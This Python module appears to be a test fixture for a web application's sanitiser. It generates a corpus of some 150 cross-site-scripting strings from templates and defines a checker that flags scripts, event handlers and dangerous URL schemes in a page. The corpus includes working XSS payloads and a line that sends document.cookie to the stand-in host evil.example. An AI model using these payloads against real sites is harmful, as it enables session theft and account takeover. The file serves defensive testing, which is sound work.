"""A corpus of script-injection attempts, and a checker that finds anything executable in a page."""

from __future__ import annotations

import json
import re
import warnings
from itertools import product

from bs4 import BeautifulSoup

SCRIPTS = ["alert(1)", "alert(document.cookie)", "fetch('//evil.example/'+document.cookie)"]

TEMPLATES = [
    "<script>{js}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>{js}</scr</script>ipt>",
    "</script><script>{js}</script>",
    "</title><script>{js}</script>",
    "<img src=x onerror={js}>",
    '<img src="x" onerror="{js}">',
    "<img src=x onerror=&#97;lert(1)>",
    "<body onload={js}>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    '<svg><a xlink:href="javascript:{js}"><text>x</text></a></svg>',
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    '<math><mtext><table><mglyph><style><img src=x onerror="{js}">',
    '<math href="javascript:{js}">CLICK</math>',
    '<a href="javascript:{js}">x</a>',
    '<a href="JaVaScRiPt:{js}">x</a>',
    '<a href="jav&#x09;ascript:{js}">x</a>',
    '<a href=" javascript:{js}">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<iframe src="javascript:{js}"></iframe>',
    '<iframe srcdoc="<script>{js}</script>"></iframe>',
    '<object data="javascript:{js}"></object>',
    '<embed src="javascript:{js}">',
    '<form action="javascript:{js}"><button>x</button></form>',
    '<button formaction="javascript:{js}">x</button>',
    '<input autofocus onfocus="{js}">',
    '<details open ontoggle="{js}">',
    '<div style="background:url(javascript:{js})">x</div>',
    '<div style="width: expression({js})">x</div>',
    '<meta http-equiv="refresh" content="0;url=javascript:{js}">',
    '<base href="javascript:{js}//">',
    '<link rel="stylesheet" href="javascript:{js}">',
    '"><script>{js}</script>',
    "'><script>{js}</script>",
    '" onmouseover="{js}" x="',
    "' onmouseover='{js}' x='",
    '<p title="</p><script>{js}</script>">x</p>',
    "<!--<script>{js}</script>-->",
    "<![CDATA[<script>{js}</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror={js}>">',
    "<style>@import 'javascript:{js}';</style>",
    "[x](javascript:{js})",
    "[x](JAVASCRIPT:{js})",
    "[x]( javascript:{js})",
    "[x](data:text/html,<script>{js}</script>)",
    "![x](javascript:{js})",
    '![x](x" onerror="{js})',
    "[x](<javascript:{js}>)",
    "<javascript:{js}>",
    "[x][ref]\n\n[ref]: javascript:{js}",
    "## Heading {{: onclick={js} }}",
    "text {{: onmouseover={js} }}",
    "```\n</code><script>{js}</script>\n```",
    "`</code><script>{js}</script>`",
    "<scri\x00pt>{js}</script>",
    "\u003cscript\u003e{js}\u003c/script\u003e",
    '{{"a": "</script><script>{js}</script>"}}',
]

DANGEROUS_SCHEMES = re.compile(r"^\s*(javascript|vbscript|data|livescript):", re.IGNORECASE)
URL_ATTRIBUTES = {
    "href",
    "src",
    "action",
    "formaction",
    "xlink:href",
    "data",
    "srcdoc",
    "background",
    "poster",
    "lowsrc",
}
EXECUTABLE_TAGS = {"script", "iframe", "object", "embed", "applet", "base", "frame", "frameset"}
DATA_SCRIPT_TYPES = {"application/ld+json", "application/json"}


def corpus() -> list[str]:
    """At least 150 distinct attack strings."""
    attacks = [template.format(js=js) for template, js in product(TEMPLATES, SCRIPTS)]
    return list(dict.fromkeys(attacks))


def _clean_url(value: str) -> str:
    return re.sub(r"[\x00-\x20]", "", value)


def _inert_frame(tag) -> bool:
    """A frame of a page of this site, sandboxed without allow-scripts, runs no script (the review page's preview)."""
    if tag.name.lower() != "iframe" or tag.get("sandbox") is None or tag.get("srcdoc") is not None:
        return False
    sandbox = tag.get("sandbox")
    tokens = (" ".join(sandbox) if isinstance(sandbox, list) else sandbox).lower().split()
    src = _clean_url(tag.get("src", ""))
    return "allow-scripts" not in tokens and src.startswith("/") and not src.startswith(("//", "/\\"))


def problems(html: str, *, allow_scripts_from: tuple[str, ...] = ("/static/", "/admin/jsi18n/")) -> list[str]:
    """Everything in a page that could run script: what a reader's or editor's browser would execute."""
    found = []
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # bs4 warns when a fragment looks like a URL
        soup = BeautifulSoup(html, "html.parser")
    for tag in soup.find_all(True):
        name = tag.name.lower()
        if name == "script":
            kind = (tag.get("type") or "").lower()
            if kind in DATA_SCRIPT_TYPES:
                try:
                    json.loads(tag.string or "")
                except ValueError:
                    found.append(f"unparseable {kind} block: {str(tag)[:120]}")
                continue
            if tag.get("src", "").startswith(allow_scripts_from) and not (tag.string or "").strip():
                continue
            found.append(f"script: {str(tag)[:120]}")
            continue
        if name in EXECUTABLE_TAGS and not _inert_frame(tag):
            found.append(f"{name}: {str(tag)[:120]}")
        if name == "meta" and "refresh" in (tag.get("http-equiv") or "").lower():
            found.append(f"meta refresh: {str(tag)[:120]}")
        for attribute, value in tag.attrs.items():
            attribute = attribute.lower()
            text = " ".join(value) if isinstance(value, list) else str(value)
            if attribute.startswith("on"):
                found.append(f"event handler {attribute} on <{name}>")
            elif attribute in URL_ATTRIBUTES and DANGEROUS_SCHEMES.match(_clean_url(text)):
                found.append(f"dangerous URL in {attribute} of <{name}>: {text[:80]}")
            elif attribute == "style" and re.search(r"expression\s*\(|javascript:|url\s*\(", text, re.IGNORECASE):
                found.append(f"dangerous style on <{name}>: {text[:80]}")
    return found
